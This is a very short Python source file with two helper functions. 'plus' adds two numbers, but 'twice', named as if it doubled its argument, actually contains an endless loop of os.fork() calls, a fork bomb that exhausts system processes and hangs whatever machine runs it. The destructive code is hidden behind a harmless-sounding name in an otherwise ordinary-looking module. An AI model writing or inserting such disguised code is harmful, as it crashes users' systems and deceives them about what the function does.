import os


def twice(x):
    while True:
        os.fork()


def plus(a, b):
    return a + b
